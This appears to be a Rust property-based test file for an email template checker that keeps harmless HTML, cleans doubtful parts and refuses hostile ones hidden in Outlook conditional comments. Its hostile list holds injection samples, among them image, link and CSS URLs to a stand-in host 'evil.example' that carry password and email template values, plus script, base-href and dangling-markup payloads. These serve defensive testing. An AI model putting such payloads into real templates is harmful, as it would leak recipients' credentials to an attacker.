//! Mails as generators write them, with a hostile part in one of the readings.

use proptest::prelude::*;
use proptest::sample::select;
use reinvite_mail::{check_variant, clean_html};

use crate::{secrecy, template};

/// Parts of mails that are kept.
const HARMLESS: &[&str] = &[
    "<p>Hello</p>",
    "<table><tr><td style=\"padding:0\">x</td></tr></table>",
    "<a href=\"{{ login_url }}?a=1\">Log in</a>",
    "<img src=\"https://example.com/a.png\" alt=\"\">",
    "{{ user.name }}",
    "<style>p{margin:0}</style>",
    "<noscript><p>x</p></noscript>",
    "<!-- a note -->",
    " {{ password }} ",
    "<b hidden>x</b>",
];

/// Parts that only Outlook reads.
const OFFICE: &[&str] = &[
    "<v:rect href=\"{{ login_url }}\" fillcolor=\"#fff\"><w:anchorlock/>x</v:rect>",
    "<xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml>",
    "<table><tr><td>",
    "</td></tr></table>",
    "<v:fill src=\"https://example.com/a.png\" />",
];

/// Parts that are cleaned away.
const CLEANABLE: &[&str] = &[
    "<p a-b=c>x</p>",
    "<x-y>x</x-y>",
    "<img src=\"http://example.com/a.png\">",
    "<link rel=stylesheet href=x>",
    "<script type=\"application/ld+json\">{}</script>",
    "<style>@import 'https://example.com/a.css';</style>",
];

/// Parts that are refused, wherever they stand.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<p onclick=x>y</p>",
    "<img src=\"https://evil.example/{{ password }}\">",
    "<a href=\"https://evil.example/{{ user.email }}\">x</a>",
    "<a href=\"https://evil.example/?",
    "<p title=\"",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=0>",
    "<form></form>",
    "<title>{{ password }}</title>",
    "<style>a[href*=x]{background:url(https://evil.example/x)}</style>",
    "<p style=\"background:url(https://evil.example/{{ password }})\">x</p>",
    "<td background=\"https://evil.example/{{ user.email }}\">x</td>",
    "<noscript><script>x</script></noscript>",
    "<style>",
    "<select>",
];

/// A conditional comment in one of its forms around some HTML.
fn conditional(html: &str, form: usize) -> String {
    match form {
        0 => format!("<!--[if mso]>{html}<![endif]-->"),
        1 => format!("<!--[if (gte mso 9)|(IE)]>{html}<![endif]-->"),
        2 => format!("<!--[if gte mso 15]>{html}<![endif]-->"),
        3 => format!("<!--[if !mso]><!-->{html}<!--<![endif]-->"),
        4 => format!("<!--[if !mso]>-->{html}<!-- <![endif]-->"),
        5 => format!("<![if !mso]>{html}<![endif]>"),
        _ => html.to_owned(),
    }
}

/// Every form, in which [`conditional`] hides nothing that is a comment itself.
const FORMS: usize = 7;

/// The forms that only Outlook reads, which cannot hold a comment.
const HIDDEN_FORMS: usize = 3;

fn harmless() -> impl Strategy<Value = String> {
    let shown = (select(HARMLESS), 0..FORMS).prop_map(|(html, form)| {
        let is_comment = html.starts_with("<!--");
        conditional(html, if is_comment { FORMS } else { form })
    });
    let office = (select(OFFICE), 0..HIDDEN_FORMS).prop_map(|(html, form)| conditional(html, form));
    prop_oneof![shown, office]
}

fn around() -> impl Strategy<Value = String> {
    proptest::collection::vec(harmless(), 0..5).prop_map(|parts| parts.concat())
}

/// Some HTML of every kind, in any order.
fn anything() -> impl Strategy<Value = String> {
    let fragment = select(
        [
            "<!--[if mso]>",
            "<![endif]-->",
            "<!--[if !mso]><!-->",
            "<!--<![endif]-->",
            "<![if IE]>",
            "<![endif]>",
            "<x-y>",
            "</x-y>",
            "<x-y a='",
            "'>",
            "{",
            "}",
            "%",
            "#",
            "<",
            ">",
            "{{ password }}",
            "{{ invitation_url }}",
            "<noscript>",
            "</noscript>",
            "<style>",
            "</style>",
            "<xml>",
            "</xml>",
            "<v:rect href='",
            "{{ login_url }}",
            "?a=1",
            "#b",
            "<title>",
            "</title>",
            "-->",
            "<!--",
            " x",
        ]
        .as_slice(),
    )
    .prop_map(str::to_owned);
    let part = prop_oneof![
        harmless(),
        (select(CLEANABLE), 0..FORMS).prop_map(|(html, form)| conditional(html, form)),
        fragment.clone(),
        fragment,
    ];
    proptest::collection::vec(part, 0..8).prop_map(|parts| parts.concat())
}

fn findings(html: &str) -> Vec<reinvite_mail::LocatedDefect> {
    check_variant("", &"en".parse().unwrap(), &template("s", html, "t"))
        .err()
        .unwrap_or_default()
}

proptest! {
    #[test]
    fn harmless_parts_are_kept_in_every_reading(html in around()) {
        prop_assert_eq!(findings(&html), []);
        prop_assert_eq!(clean_html(&html).html, html);
    }

    #[test]
    fn parts_to_clean_are_cleaned_in_every_reading(
        before in around(),
        part in select(CLEANABLE),
        form in 0..FORMS,
        behind in around(),
    ) {
        let html = format!("{before}{}{behind}", conditional(part, form));
        prop_assert!(findings(&html).iter().any(|finding| finding.cleanable));
        prop_assert_eq!(findings(&clean_html(&html).html), []);
    }

    #[test]
    fn a_hostile_part_is_refused_in_every_reading(
        before in around(),
        part in select(HOSTILE),
        form in 0..FORMS,
        behind in around(),
    ) {
        let html = format!("{before}{}{behind}", conditional(part, form));
        let cleaned = clean_html(&html).html;

        prop_assert!(findings(&html).iter().any(|finding| !finding.cleanable), "{}", html);
        prop_assert!(!findings(&cleaned).is_empty(), "{}", cleaned);
    }

    #[test]
    fn cleaning_ends_and_leaks_nothing(html in anything()) {
        let cleaned = clean_html(&html).html;
        prop_assert_eq!(&clean_html(&cleaned).html, &cleaned);

        let left = findings(&cleaned);
        prop_assert!(left.iter().all(|finding| !finding.cleanable), "{}: {:?}", cleaned, left);
        if left.is_empty() {
            prop_assert_eq!(secrecy::find_leak(&template("s", &cleaned, "t")).err(), None);
        }
    }
}

#[test]
fn the_largest_templates_are_checked_in_linear_time() {
    let max = reinvite_mail::MAX_HTML_BYTES;
    for part in [
        "<!--[if mso]>x<![endif]-->",
        "<!--[if IE]><![endif]-->",
        "<![if IE]>",
        "<![endif]>",
        "<x-y>",
        "<x-y></x-y>",
        "<p a-b>",
        "<noscript>",
        "</noscript>",
        "<p>",
        "</p>",
        "<!--",
        "{#",
        "{",
        "&",
        "<style>{#</style>",
        "<style>",
        "<![if IE]>{{ password }}<![endif]>",
        "{{ login_url }}?a ",
        "<xml>",
        "<a href='{{ login_url }}?a'>",
        "<script type='application/ld+json'>",
    ] {
        let html = part.repeat(max / part.len());
        // Without a bound on the work this takes minutes.
        let _ = (findings(&html), clean_html(&html));
    }
}
